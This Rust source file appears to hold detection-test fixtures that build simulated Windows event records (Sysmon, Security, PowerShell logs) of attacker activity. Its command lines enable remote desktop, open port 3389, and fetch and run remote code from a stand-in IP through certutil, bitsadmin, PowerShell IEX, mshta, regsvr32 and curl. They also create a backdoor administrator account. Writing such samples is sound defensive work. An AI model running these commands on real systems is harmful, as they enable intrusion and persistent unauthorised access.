//! Windows log records of attacks, in the shapes in which they are shipped: Winlogbeat's (ECS) and plain JSON of the
//! event's own XML.

use super::{KeyRehearsal, documents};
use serde_json::{Value, json};
use yagura_event::DocumentSource::Windows;

const RDP: &str = "proc.windows_rdp_3389";
const DOWNLOAD_KEY: &str = "proc.windows_download";
const ACCOUNT: &str = "proc.windows_account_creation";

const SYSMON: &str = "Microsoft-Windows-Sysmon";
const SYSMON_CHANNEL: &str = "Microsoft-Windows-Sysmon/Operational";
const SECURITY: &str = "Microsoft-Windows-Security-Auditing";
const TERMINAL_SERVER: &str = "HKLM\\System\\CurrentControlSet\\Control\\Terminal Server";

pub(super) const RDP_3389: &[KeyRehearsal] = &[
    documents(
        RDP,
        "rdp-reg-enable",
        "reg allows remote desktops",
        Windows,
        || {
            vec![process(
                "C:\\Windows\\System32\\reg.exe",
                "reg add \"HKLM\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server\" /v fDenyTSConnections /t REG_DWORD /d 0 /f",
                CMD,
            )]
        },
    ),
    documents(
        RDP,
        "rdp-reg-port",
        "reg moves the remote desktops' port",
        Windows,
        || {
            vec![process(
                "C:\\Windows\\System32\\reg.exe",
                "reg add \"HKLM\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server\\WinStations\\RDP-Tcp\" /v PortNumber /t REG_DWORD /d 3390 /f",
                CMD,
            )]
        },
    ),
    documents(RDP, "rdp-netsh", "netsh opens port 3389", Windows, || {
        vec![process(
            "C:\\Windows\\System32\\netsh.exe",
            "netsh advfirewall firewall add rule name=\"rdp\" protocol=TCP dir=in localport=3389 action=allow",
            CMD,
        )]
    }),
    documents(
        RDP,
        "rdp-powershell",
        "PowerShell allows remote desktops",
        Windows,
        || {
            vec![
                process(
                    POWERSHELL,
                    "powershell -c \"Set-ItemProperty -Path 'HKLM:\\System\\CurrentControlSet\\Control\\Terminal Server' -Name fDenyTSConnections -Value 0; Enable-NetFirewallRule -DisplayGroup 'Remote Desktop'\"",
                    CMD,
                ),
                script(
                    "Set-ItemProperty -Path 'HKLM:\\System\\CurrentControlSet\\Control\\Terminal Server' -Name 'fDenyTSConnections' -Value 0",
                ),
            ]
        },
    ),
    documents(
        RDP,
        "rdp-wmic",
        "wmic allows remote desktops",
        Windows,
        || {
            vec![process_4688(
                "C:\\Windows\\System32\\wbem\\WMIC.exe",
                "wmic /namespace:\\\\root\\cimv2\\terminalservices path win32_terminalservicesetting where (__CLASS != \"\") call setallowtsconnections 1",
                CMD,
            )]
        },
    ),
    documents(
        RDP,
        "rdp-registry",
        "the registry's values change",
        Windows,
        || {
            vec![
                registry(
                    &format!("{TERMINAL_SERVER}\\fDenyTSConnections"),
                    "DWORD (0x00000000)",
                ),
                registry(
                    &format!("{TERMINAL_SERVER}\\WinStations\\RDP-Tcp\\PortNumber"),
                    "DWORD (0x00000d3e)",
                ),
            ]
        },
    ),
];

pub(super) const DOWNLOAD: &[KeyRehearsal] = &[
    documents(
        DOWNLOAD_KEY,
        "download-certutil",
        "certutil fetches a file",
        Windows,
        || {
            vec![process(
                "C:\\Windows\\System32\\certutil.exe",
                "certutil.exe -urlcache -split -f http://203.0.113.7/a.exe C:\\Users\\Public\\a.exe",
                CMD,
            )]
        },
    ),
    documents(
        DOWNLOAD_KEY,
        "download-bitsadmin",
        "bitsadmin fetches a file",
        Windows,
        || {
            vec![process(
                "C:\\Windows\\System32\\bitsadmin.exe",
                "bitsadmin /transfer j /download /priority high http://203.0.113.7/a.exe C:\\ProgramData\\a.exe",
                CMD,
            )]
        },
    ),
    documents(
        DOWNLOAD_KEY,
        "download-powershell",
        "PowerShell fetches a script and a file",
        Windows,
        || {
            vec![
                process(
                    POWERSHELL,
                    "powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')\"",
                    CMD,
                ),
                process_4688(
                    POWERSHELL,
                    "powershell Invoke-WebRequest -Uri http://203.0.113.7/a.exe -OutFile C:\\Windows\\Temp\\a.exe",
                    CMD,
                ),
                script(
                    "(New-Object System.Net.WebClient).DownloadFile('http://203.0.113.7/a.exe','C:\\Windows\\Temp\\a.exe')",
                ),
            ]
        },
    ),
    documents(
        DOWNLOAD_KEY,
        "download-mshta",
        "mshta runs a page from elsewhere",
        Windows,
        || {
            vec![process(
                "C:\\Windows\\System32\\mshta.exe",
                "mshta http://203.0.113.7/a.hta",
                "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
            )]
        },
    ),
    documents(
        DOWNLOAD_KEY,
        "download-curl",
        "curl fetches a program",
        Windows,
        || {
            vec![process(
                "C:\\Windows\\System32\\curl.exe",
                "curl -s -o C:\\Users\\Public\\svc.exe http://203.0.113.7/svc.exe",
                CMD,
            )]
        },
    ),
    documents(
        DOWNLOAD_KEY,
        "download-desktopimgdownldr",
        "desktopimgdownldr fetches a file",
        Windows,
        || {
            vec![process(
                "C:\\Windows\\System32\\desktopimgdownldr.exe",
                "desktopimgdownldr.exe /lockscreenurl:http://203.0.113.7/a.dll /eventName:desktopimgdownldr",
                CMD,
            )]
        },
    ),
    documents(
        DOWNLOAD_KEY,
        "download-regsvr32",
        "regsvr32 runs a script from elsewhere",
        Windows,
        || {
            vec![process(
                "C:\\Windows\\System32\\regsvr32.exe",
                "regsvr32 /s /n /u /i:http://203.0.113.7/a.sct scrobj.dll",
                CMD,
            )]
        },
    ),
];

pub(super) const ACCOUNT_CREATION: &[KeyRehearsal] = &[
    documents(
        ACCOUNT,
        "account-net-user",
        "net makes a user",
        Windows,
        || {
            vec![process(
                "C:\\Windows\\System32\\net.exe",
                "net user support P@ss-w0rd-123 /add",
                CMD,
            )]
        },
    ),
    documents(
        ACCOUNT,
        "account-net-localgroup",
        "net makes a user an administrator",
        Windows,
        || {
            vec![process_4688(
                "C:\\Windows\\System32\\net1.exe",
                "C:\\Windows\\system32\\net1 localgroup administrators support /add",
                CMD,
            )]
        },
    ),
    documents(
        ACCOUNT,
        "account-powershell",
        "PowerShell makes a user and an administrator of it",
        Windows,
        || {
            vec![
                process(
                    POWERSHELL,
                    "powershell New-LocalUser -Name support -NoPassword; Add-LocalGroupMember -Group Administrators -Member support",
                    "C:\\inetpub\\w3wp.exe",
                ),
                script("New-LocalUser -Name 'support' -NoPassword"),
            ]
        },
    ),
    documents(
        ACCOUNT,
        "account-security-log",
        "the security log tells of a new user and administrator",
        Windows,
        || {
            vec![
                security(
                    4720,
                    &json!({ "TargetUserName": "support$", "TargetDomainName": "WIN-7", "TargetSid": "S-1-5-21-1-2-3-1107", "SubjectUserName": "IIS APPPOOL$", "SubjectUserSid": "S-1-5-82-1", "SubjectDomainName": "WIN-7", "SubjectLogonId": "0x3e7", "SamAccountName": "support$", "PrivilegeList": "-" }),
                ),
                security(
                    4732,
                    &json!({ "MemberSid": "S-1-5-21-1-2-3-1107", "MemberName": "-", "TargetUserName": "Administrators", "TargetDomainName": "Builtin", "TargetSid": "S-1-5-32-544", "SubjectUserName": "IIS APPPOOL$", "SubjectUserSid": "S-1-5-82-1", "SubjectDomainName": "WIN-7", "SubjectLogonId": "0x3e7", "PrivilegeList": "-" }),
                ),
            ]
        },
    ),
];

const CMD: &str = "C:\\Windows\\System32\\cmd.exe";
const POWERSHELL: &str = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";

/// A record as Winlogbeat ships it.
fn winlogbeat(provider: &str, channel: &str, id: u32, data: &Value) -> Value {
    json!({
        "@timestamp": format!("{:.3}", jiff::Timestamp::now()),
        "agent": { "type": "winlogbeat", "version": "8.15.3" },
        "ecs": { "version": "8.0.0" },
        "event": { "code": id.to_string(), "kind": "event", "provider": provider },
        "host": { "name": "win-7.example" },
        "winlog": {
            "api": "wineventlog", "channel": channel, "provider_name": provider, "event_id": id.to_string(),
            "computer_name": "win-7.example", "record_id": 52_114, "event_data": data,
        },
    })
}

/// A record as tools print its XML in JSON.
fn plain(provider: &str, channel: &str, id: u32, data: &Value) -> Value {
    json!({ "Event": {
        "System": {
            "Provider": { "#attributes": { "Name": provider } },
            "EventID": id, "Version": 5, "Level": 4, "Channel": channel, "Computer": "win-7.example", "EventRecordID": 52_115,
            "TimeCreated": { "#attributes": { "SystemTime": format!("{:.6}", jiff::Timestamp::now()) } },
        },
        "EventData": data,
    } })
}

/// Sysmon 1: a process was created.
fn process(image: &str, command: &str, parent: &str) -> Value {
    winlogbeat(
        SYSMON,
        SYSMON_CHANNEL,
        1,
        &json!({
            "Image": image, "CommandLine": command, "CurrentDirectory": "C:\\Windows\\Temp\\", "User": "WIN-7\\svc-web",
            "ProcessId": "4711", "ProcessGuid": "{8f1c2b3a-0001-0002-0003-000000000001}", "IntegrityLevel": "High",
            "ParentImage": parent, "ParentCommandLine": parent, "ParentProcessId": "4242", "UtcTime": "-", "OriginalFileName": base_name(image),
        }),
    )
}

/// Security 4688: a process was created.
fn process_4688(image: &str, command: &str, parent: &str) -> Value {
    plain(
        SECURITY,
        "Security",
        4688,
        &json!({
            "NewProcessName": image, "CommandLine": command, "ParentProcessName": parent, "NewProcessId": "0x1267", "ProcessId": "0x1092",
            "SubjectUserName": "svc-web", "SubjectDomainName": "WIN-7", "SubjectUserSid": "S-1-5-21-1-2-3-1001", "TokenElevationType": "%%1937",
        }),
    )
}

/// Sysmon 13: a value of the registry was set.
fn registry(target: &str, details: &str) -> Value {
    plain(
        SYSMON,
        SYSMON_CHANNEL,
        13,
        &json!({
            "EventType": "SetValue", "TargetObject": target, "Details": details, "Image": "C:\\Windows\\regedit.exe",
            "ProcessId": 4712, "ProcessGuid": "{8f1c2b3a-0001-0002-0003-000000000002}", "User": "WIN-7\\svc-web", "UtcTime": "-", "RuleName": "-",
        }),
    )
}

/// PowerShell 4104: a script block ran.
fn script(text: &str) -> Value {
    winlogbeat(
        "Microsoft-Windows-PowerShell",
        "Microsoft-Windows-PowerShell/Operational",
        4104,
        &json!({ "ScriptBlockText": text, "ScriptBlockId": "0f1e2d3c-0001", "MessageNumber": "1", "MessageTotal": "1", "Path": "" }),
    )
}

/// A record of the security log.
fn security(id: u32, data: &Value) -> Value {
    winlogbeat(SECURITY, "Security", id, data)
}

fn base_name(path: &str) -> &str {
    path.rsplit('\\').next().unwrap_or(path)
}
